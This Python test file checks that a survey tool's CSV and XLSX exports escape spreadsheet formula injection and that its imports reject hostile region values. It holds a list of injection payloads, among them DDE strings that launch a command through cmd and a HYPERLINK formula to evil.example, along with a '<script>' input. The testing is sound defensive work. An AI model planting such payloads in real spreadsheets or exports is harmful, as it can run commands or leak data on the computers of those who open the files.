"""Issue #11, findings 1 and 3: what respondents type never runs in the bureau's spreadsheets and
never breaks `report --out`.

Through the public interfaces: `ohbot responses import`, `ohbot report --out`, `ohbot responses
export` (CSV and XLSX), and bot.awareness.cells, the one function every CSV/XLSX writer uses. Values
that validation now refuses at input are put into the database directly, as a database written
before the validation would hold them: the writers must be safe on their own.
"""
from __future__ import annotations

import csv
import io
import sqlite3
import zipfile
from pathlib import Path

import pytest

from bot.awareness.cells import safe_cell
from bot.quiz.bank import load_bank
from tests.helpers import KNOWLEDGE, run_cli
from tests.helpers import write_csv as helpers_write_csv

# the attack strings of the adversarial pass, and more of the same family
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x","点此")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",  # full-width equals sign, as a Chinese input method types it
]
HEADER = ["respondent_id", "item_id", "answer", "answered_at", "industry", "region", "enterprise_size", "role"]


@pytest.fixture(autouse=True)
def _clean_env(monkeypatch):
    for name in ("OHBOT_SALT", "OHBOT_DATA_DIR", "OHBOT_DATABASE_URL"):
        monkeypatch.delenv(name, raising=False)


def write_csv(path: Path, rows, header=HEADER) -> Path:
    return helpers_write_csv(path, rows, header)


def answer_rows(region: str = "柳南区", people: int = 6, start: int = 0) -> list[list[str]]:
    items = [i for i in load_bank(KNOWLEDGE) if i.type == "single"][:5]
    return [[f"R{p}", item.id, item.answer, "2024-03-05 10:00", "construction", region, "large", "worker"]
            for p in range(start, start + people) for item in items]


def set_region(data_dir: Path, old: str, new: str) -> None:
    """Every stored region `old` becomes `new` (users and any per-form copy), as an old database holds it."""
    conn = sqlite3.connect(str(data_dir / "ohbot.db"))
    with conn:
        for (table,) in conn.execute("select name from sqlite_master where type = 'table'").fetchall():
            columns = {r[1] for r in conn.execute(f'pragma table_info("{table}")')}
            if "region" in columns:
                conn.execute(f'update "{table}" set region = ? where region = ?', [new, old])
    conn.close()


@pytest.fixture
def campaign(tmp_path, capsys) -> Path:
    """Campaign C1 with 6 respondents in 柳南区 and 6 in 柳北区, imported through the CLI."""
    assert run_cli(capsys, tmp_path, "campaign", "create", "C1", "--start", "2024-01-01", "--end", "2024-12-31")[0] == 0
    path = write_csv(tmp_path / "a.csv", answer_rows("柳南区") + answer_rows("柳北区", start=6))
    code, _, err = run_cli(capsys, tmp_path, "responses", "import", str(path), "--campaign", "C1")
    assert code == 0, err
    return tmp_path


# ---- the one cell function ------------------------------------------------------------------------
@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_cell_neutralises_formula_starts(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["柳南区", "a=b", "1+1", "", "email@example.org", "'quoted"])
def test_safe_cell_leaves_ordinary_text_alone(value):
    assert safe_cell(value) == value


def test_safe_cell_passes_numbers_and_strips_xml_illegal_characters():
    assert safe_cell(-2.5) == -2.5 and safe_cell(-3) == -3 and safe_cell(None) is None
    assert safe_cell("柳\x00南\x01区\x0b") == "柳南区"
    assert safe_cell("\x00=1+1") == "'=1+1"


# ---- writers --------------------------------------------------------------------------------------
def xlsx_cells(path: Path) -> list[tuple[str, object]]:
    """(data_type, value) of every cell of every sheet, and no formula element anywhere in the file."""
    from openpyxl import load_workbook

    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    wb = load_workbook(path)
    return [(c.data_type, c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.value is not None]


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def dangerous(cell: object) -> bool:
    return isinstance(cell, str) and cell.lstrip(" \r\n")[:1] in set("=+-@\t\r＝")


@pytest.mark.parametrize("payload", PAYLOADS[:4])
def test_report_and_exports_never_write_a_live_formula(campaign, capsys, payload):
    set_region(campaign, "柳北区", payload)
    out = campaign / "out"
    code, _, err = run_cli(capsys, campaign, "report", "--campaign", "C1", "--by", "region", "--out", str(out))
    assert code == 0, err
    cells = xlsx_cells(out / "report.xlsx")
    assert ("s", "'" + payload) in cells  # the region, as text, with the apostrophe
    assert all(t == "s" for t, v in cells if isinstance(v, str)), "every text cell is a string cell"
    assert not any(dangerous(v) for _, v in cells)
    groups = (out / "groups.csv").read_text(encoding="utf-8-sig")
    assert "'" + payload in csv_cells(groups) and not any(dangerous(c) for c in csv_cells(groups))

    code, text, err = run_cli(capsys, campaign, "responses", "export", "--campaign", "C1")
    assert code == 0, err
    assert "'" + payload in csv_cells(text) and not any(dangerous(c) for c in csv_cells(text))
    for level in ("item", "respondent"):
        path = campaign / f"{level}.xlsx"
        code, _, err = run_cli(capsys, campaign, "responses", "export", "--campaign", "C1", "--level", level,
                           "--out", str(path))
        assert code == 0, err
        cells = xlsx_cells(path)
        assert ("s", "'" + payload) in cells and not any(dangerous(v) for _, v in cells)


def test_report_cells_equal_to_an_error_code_stay_text(campaign, capsys):
    set_region(campaign, "柳北区", "#N/A")
    out = campaign / "out"
    assert run_cli(capsys, campaign, "report", "--campaign", "C1", "--by", "region", "--out", str(out))[0] == 0
    assert ("s", "#N/A") in xlsx_cells(out / "report.xlsx")


# ---- input validation -----------------------------------------------------------------------------
@pytest.mark.parametrize("payload", PAYLOADS[:4] + ["<script>", "柳南区" * 20])
def test_import_refuses_a_region_that_is_not_a_place_name(tmp_path, capsys, payload):
    assert run_cli(capsys, tmp_path, "campaign", "create", "C1", "--start", "2024-01-01", "--end", "2024-12-31")[0] == 0
    rows = answer_rows("柳南区", people=2) + answer_rows(payload, people=1, start=2)
    code, _, err = run_cli(capsys, tmp_path, "responses", "import", str(write_csv(tmp_path / "a.csv", rows)),
                       "--campaign", "C1")
    assert code == 1 and "nothing was imported" in err
    assert "line 12: region" in err


def test_import_strips_control_characters(tmp_path, capsys):
    assert run_cli(capsys, tmp_path, "campaign", "create", "C1", "--start", "2024-01-01", "--end", "2024-12-31")[0] == 0
    rows = answer_rows("柳\x00南\x01区\x0b", people=2)
    code, _, err = run_cli(capsys, tmp_path, "responses", "import", str(write_csv(tmp_path / "a.csv", rows)),
                       "--campaign", "C1")
    assert code == 0, err
    code, text, _ = run_cli(capsys, tmp_path, "responses", "export", "--campaign", "C1")
    assert {r["region"] for r in csv.DictReader(io.StringIO(text))} == {"柳南区"}


# ---- finding 3: one respondent's text never breaks report --out -----------------------------------
REPORT_FILES = ("report.json", "overall.csv", "groups.csv", "items.csv", "dimensions.csv", "months.csv",
                "report.xlsx", "awareness_by_group.png", "awareness_by_month.png", "report.html")


@pytest.mark.parametrize("hostile", ["$\\foo$", "柳\x00北\x01区\x0b", "$x^{2$ \\frac", "a$b$c\\$"])
def test_report_out_survives_hostile_text(campaign, capsys, hostile):
    set_region(campaign, "柳北区", hostile)
    out = campaign / "out"
    code, _, err = run_cli(capsys, campaign, "report", "--campaign", "C1", "--by", "region", "--out", str(out))
    assert code == 0, err
    for name in REPORT_FILES:
        assert (out / name).stat().st_size > 0, name
    assert (out / "awareness_by_group.png").read_bytes()[:4] == b"\x89PNG"


def test_one_failing_file_does_not_stop_the_others(campaign, capsys):
    out = campaign / "out"
    (out / "report.xlsx").mkdir(parents=True)  # cannot be replaced by a file: that one output fails
    code, _, err = run_cli(capsys, campaign, "report", "--campaign", "C1", "--by", "region", "--out", str(out))
    assert code == 2
    assert err.count("\n") == 1 and "report.xlsx" in err  # one line naming the file
    for name in REPORT_FILES:
        if name != "report.xlsx":
            assert (out / name).is_file() and (out / name).stat().st_size > 0, name
    assert not list(out.glob(".*.tmp"))
